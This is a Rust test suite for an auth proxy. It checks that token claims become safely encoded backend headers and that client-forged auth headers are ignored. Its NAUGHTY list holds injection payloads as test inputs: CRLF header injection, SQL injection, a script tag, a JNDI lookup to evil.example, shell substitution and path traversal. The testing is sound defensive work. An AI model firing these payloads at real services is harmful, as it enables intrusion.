//! Group H: what the application behind the proxy gets to know.

use serde_json::{Value, json};

use super::wire::{assert_allowed, assert_allowed_as, assert_denied, assert_token_denied};
use crate::support::{Answer, GateBuilder, TestGate, TestIssuer};

#[test]
fn h1_every_mapped_header_is_there_on_200_and_none_on_a_denial() {
    let (idp, gate) = built(|gate| gate);
    let bare = idp.token().without("sub");
    assert_allowed_as(&send(&gate, &bare.sign()), "", &idp.url(), "no claims");
    let null = ["sub", "email", "client_id", "azp", "scope", "scp"]
        .iter()
        .fold(idp.token(), |token, name| token.claim(name, Value::Null));
    assert_allowed_as(&send(&gate, &null.sign()), "", &idp.url(), "null claims");
    let full = idp
        .token()
        .claim("email", "a@example.com")
        .claim("client_id", "app")
        .claim("scope", "read write");
    let expected = [
        ("x-auth-client-id", "app"),
        ("x-auth-email", "a@example.com"),
        ("x-auth-issuer", "https://idp.example"),
        ("x-auth-scopes", "read write"),
        ("x-auth-subject", "alice"),
    ];
    assert_allowed(&send(&gate, &full.sign()), &expected, "all claims");
    // A denial is compared field by field, so a claim in it would show.
    assert_token_denied(
        &gate,
        &full.clone().expires_in(-3600).sign(),
        "token_expired",
        "all claims, but too late",
    );
    assert_token_denied(
        &gate,
        &full.claim("aud", "other").sign(),
        "audience_mismatch",
        "for somebody else",
    );
    assert_denied(&gate.get("/verify").send(), "token_missing", "no token");
}

#[test]
fn h2_what_the_client_says_about_itself_is_neither_believed_nor_echoed() {
    let (idp, gate) = built(|gate| gate);
    let names = [
        "X-Auth-Subject",
        "x-auth-subject",
        "X_Auth_Subject",
        "X-Auth-Email",
        "X-Auth-User",
        "X-Auth-Reason",
    ];
    for name in names {
        for value in ["admin", ""] {
            let request = || {
                gate.get("/verify")
                    .header(name, value)
                    .header("Connection", "X-Auth-Subject")
            };
            let what = format!("{name}: {value:?}");
            assert_allowed_as(
                &request().bearer(&idp.token().sign()).send(),
                "alice",
                &idp.url(),
                &what,
            );
            assert_allowed_as(
                &request().bearer(&idp.token().without("sub").sign()).send(),
                "",
                &idp.url(),
                &what,
            );
            assert_denied(&request().send(), "token_missing", &what);
        }
    }
}

#[test]
fn h3_naughty_strings_travel_as_visible_ascii_and_come_back_whole() {
    let (idp, gate) =
        built(|gate| gate.set("CLAIM_HEADERS", "sub=X-Auth-Subject, groups=X-Auth-Groups"));
    let mut seen = std::collections::HashMap::new();
    let ascii = (0..128_u8).map(|byte| format!("a{}b", char::from(byte)));
    for text in NAUGHTY.iter().map(|text| (*text).to_owned()).chain(ascii) {
        let answer = send(
            &gate,
            &idp.token()
                .subject(&text)
                .claim("groups", json!([text, "z"]))
                .sign(),
        );
        assert_eq!(answer.verdict(), "200", "{text:?}");
        let (single, list) = (
            value(&answer, "x-auth-subject"),
            value(&answer, "x-auth-groups"),
        );
        assert_eq!(decoded(single), text, "{single}");
        assert_eq!(
            list.split(',').map(decoded).collect::<Vec<_>>(),
            [text.as_str(), "z"],
            "{list}"
        );
        assert_eq!(answer.fields.len(), 5, "{text:?} made no field of its own");
        assert_eq!(
            seen.insert(single.to_owned(), text.clone())
                .filter(|earlier| *earlier != text),
            None
        );
    }
}

#[test]
fn h4_names_of_all_scripts_are_percent_encoded_utf8() {
    let (idp, gate) = built(|gate| gate.set("CLAIM_HEADERS", "name=X-Auth-Name"));
    for (name, expected) in [
        ("Özdemir", "%C3%96zdemir"),
        ("O\u{308}zdemir", "O%CC%88zdemir"),
        ("Дарья", "%D0%94%D0%B0%D1%80%D1%8C%D1%8F"),
        ("李小龍", "%E6%9D%8E%E5%B0%8F%E9%BE%8D"),
        ("🦀", "%F0%9F%A6%80"),
        ("Jane Doe", "Jane Doe"),
        ("100%", "100%25"),
        ("%C3%96", "%25C3%2596"),
        (" x ", "%20x%20"),
    ] {
        let answer = send(&gate, &idp.token().claim("name", name).sign());
        assert_allowed(&answer, &[("x-auth-name", expected)], name);
    }
}

#[test]
fn h5_values_that_are_no_text_keep_every_digit_or_are_refused() {
    let (idp, gate) = built(|gate| gate.set("CLAIM_HEADERS", "x=X-Auth-X"));
    let with = |json: &str| {
        let claims = idp.token().claims_text();
        idp.token()
            .sign_payload(claims.replacen('{', &format!("{{\"x\":{json},"), 1))
    };
    for (json, expected) in [
        ("0", "0"),
        ("-1", "-1"),
        ("9007199254740993", "9007199254740993"),
        ("-9223372036854775808", "-9223372036854775808"),
        ("18446744073709551615", "18446744073709551615"),
        ("1e21", "1e+21"),
        ("1.50", "1.5"),
        ("true", "true"),
        ("false", "false"),
        ("null", ""),
        ("[]", ""),
        (r#"["a,b","c"]"#, "a%2Cb,c"),
        (r#"["a","b,c"]"#, "a,b%2Cc"),
        (r#"["a",1,true]"#, "a,1,true"),
        (r#"[["a"],{"b":1}]"#, "WyJhIl0,eyJiIjoxfQ"),
        (
            r#"{"b":9007199254740993}"#,
            "eyJiIjo5MDA3MTk5MjU0NzQwOTkzfQ",
        ),
    ] {
        assert_allowed(&send(&gate, &with(json)), &[("x-auth-x", expected)], json);
    }
    for json in [
        "18446744073709551616",
        "-9223372036854775809",
        "0.1000000000000000055511151231257827",
        "[123456789012345678901]",
    ] {
        assert_token_denied(&gate, &with(json), "claim_invalid", json);
    }
}

#[test]
fn h6_headers_that_do_not_fit_are_refused_and_never_cut() {
    let (idp, gate) =
        built(|gate| gate.set("CLAIM_HEADERS", "sub=X-Auth-Subject, groups=X-Auth-Groups"));
    // Two names, two values, and four bytes for each line.
    let room = 3072 - "X-Auth-Subject".len() - "alice".len() - "X-Auth-Groups".len() - 8;
    let fits = idp.token().claim("groups", "x".repeat(room)).sign();
    assert_allowed(
        &send(&gate, &fits),
        &[
            ("x-auth-groups", &"x".repeat(room)),
            ("x-auth-subject", "alice"),
        ],
        "full",
    );
    let groups: Vec<String> = (0..500).map(|n| format!("group-{n}")).collect();
    for (what, groups) in [
        ("a byte more", json!("x".repeat(room + 1))),
        ("4 KiB", json!("x".repeat(4096))),
        (
            "a third of it, but encoded",
            json!("ü".repeat(room / 6 + 1)),
        ),
        ("500 groups", json!(groups)),
    ] {
        let token = idp.token().claim("groups", groups).sign();
        assert_token_denied(&gate, &token, "claim_headers_too_large", what);
        assert_token_denied(&gate, &token, "claim_headers_too_large", "again");
    }
    let (idp, gate) = built(|gate| gate.set("MAX_TOKEN_BYTES", "98304"));
    let token = idp.token().subject(&"x".repeat(64 * 1024)).sign();
    assert_token_denied(&gate, &token, "claim_headers_too_large", "64 KiB");
}

#[test]
fn h7_two_claims_never_share_a_header() {
    for mapping in [
        "sub=X-Auth-User, email=X-Auth-User",
        "sub=X-Auth-User, email=x-auth-user",
        "sub=X-Auth-User, email=X_Auth_User",
        "sub=X-Auth-User, email=x_auth-USER",
        "sub=X-Auth-User, sub=X-Auth-User",
    ] {
        assert_refused(mapping, "is given twice");
    }
    assert!(
        mapping("sub=X-Auth-User, sub=X-Auth-Subject")
            .configuration()
            .is_ok(),
        "one claim may have two headers"
    );
}

#[test]
fn h8_headers_that_mean_something_are_no_place_for_a_claim() {
    for name in [
        "Connection",
        "Keep-Alive",
        "Content-Length",
        "Content-Type",
        "Transfer-Encoding",
        "TE",
        "Trailer",
        "Upgrade",
        "Host",
        "Set-Cookie",
        "Cookie",
        "Authorization",
        "WWW-Authenticate",
        "Cache-Control",
        "Location",
        "X-Auth-Reason",
        "X-Auth-Denial",
        "content_length",
        "TRANSFER_ENCODING",
        "X-Accel-Redirect",
        "x_accel_buffering",
    ] {
        assert_refused(&format!("sub={name}"), "means something else already");
    }
    for name in [
        "",
        "X Auth",
        "X-Auth:",
        "X-Auth\r\nX-Evil",
        "X-Äuth",
        "X-Auth\u{0}",
        "(x)",
        "\"x\"",
        "x/y",
    ] {
        assert_refused(&format!("sub={name}"), "no header name");
    }
}

#[test]
fn h9_a_claim_path_leads_to_one_claim() {
    let paths = r#"realm.roles=X-Auth-A, "a.b".c=X-Auth-B, https://x.example/roles=X-Auth-C, list.0=X-Auth-D, $=X-Auth-E"#;
    let (idp, gate) = built(|gate| {
        gate.set("CLAIM_HEADERS", paths)
            .set("CLAIM_HEADERS_MAX_BYTES", "65536")
    });
    let token = idp
        .token()
        .claim("realm", json!({"roles": ["admin", "user"]}))
        .claim("realm.roles", "decoy")
        .claim("a.b", json!({"c": "found"}))
        .claim("a", json!({"b": {"c": "decoy"}}))
        .claim("https://x.example/roles", json!(["one"]))
        .claim("list", json!(["decoy"]));
    let whole = doorward::jose::encode_base64url(token.claims_text());
    let expected = [
        ("x-auth-a", "admin,user"),
        ("x-auth-b", "found"),
        ("x-auth-c", "one"),
        ("x-auth-d", ""),
        ("x-auth-e", &whole),
    ];
    assert_allowed(&send(&gate, &token.sign()), &expected, "paths");
}

fn built(settings: impl Fn(GateBuilder) -> GateBuilder) -> (TestIssuer, TestGate) {
    let idp = TestIssuer::new();
    let gate = settings(TestGate::new().trusting(&idp)).spawn();
    (idp, gate)
}

fn mapping(mapping: &str) -> GateBuilder {
    TestGate::new()
        .trusting(&TestIssuer::new())
        .set("CLAIM_HEADERS", mapping)
}

fn assert_refused(text: &str, problem: &str) {
    let problems = mapping(text).configuration().map(drop).unwrap_err();
    assert!(
        problems.contains(problem) && problems.contains("CLAIM_HEADERS"),
        "{text}: {problems}"
    );
}

fn send(gate: &TestGate, token: &str) -> Answer {
    gate.get("/verify").bearer(token).send()
}

fn value<'a>(answer: &'a Answer, name: &str) -> &'a str {
    let value = answer.get(name).unwrap();
    assert!(
        value.bytes().all(|byte| matches!(byte, 0x20..=0x7E)),
        "{value:?}"
    );
    value
}

/// The reader's side of the encoding.
fn decoded(text: &str) -> String {
    let mut bytes = Vec::new();
    let mut rest = text.as_bytes();
    while let Some((&byte, behind)) = rest.split_first() {
        if byte == b'%' {
            let (digits, behind) = behind.split_at(2);
            bytes.push(u8::from_str_radix(std::str::from_utf8(digits).unwrap(), 16).unwrap());
            rest = behind;
        } else {
            bytes.push(byte);
            rest = behind;
        }
    }
    String::from_utf8(bytes).unwrap()
}

/// Texts that have broken programs, after the idea of the Big List of Naughty Strings.
const NAUGHTY: [&str; 60] = [
    "admin\r\nX-Auth-Role: admin",
    "admin\nX-Auth-Role: admin",
    "admin\rX-Auth-Role: admin",
    "admin\r\n\r\nHTTP/1.1 200 OK",
    "\u{0}",
    "a\u{0}b",
    "\u{7f}",
    "\u{80}",
    "\u{85}",
    "\u{a0}",
    "\u{ad}",
    "\u{ff}",
    "\u{2028}",
    "\u{2029}",
    "\u{feff}",
    "\u{fffd}",
    "\u{fffe}",
    "\u{200b}",
    "\u{200d}",
    "\u{202e}nimda",
    "\u{e0041}",
    "\u{10ffff}",
    "\t",
    " ",
    "  ",
    " a",
    "a ",
    "\ta",
    "a\t",
    "\u{b}",
    "\u{c}",
    "\u{1b}[31m",
    "%",
    "%%",
    "%0d%0a",
    "%2525",
    "%C3",
    "%u000d",
    ",",
    "a,b",
    ";",
    "a;b=c",
    "=",
    ":",
    "\"",
    "\\",
    "\\r\\n",
    "'; DROP TABLE users; --",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "$(touch x)",
    "{{7*7}}",
    "../../etc/passwd",
    "undefined",
    "null",
    "NaN",
    "ÅÍÎÏ˝ÓÔÒÚÆ☃",
    "田中さんにあげて下さい",
    "👨‍👩‍👧‍👦",
    "Z\u{351}\u{36b}\u{343}a\u{363}l\u{36c}g\u{34f}o",
];
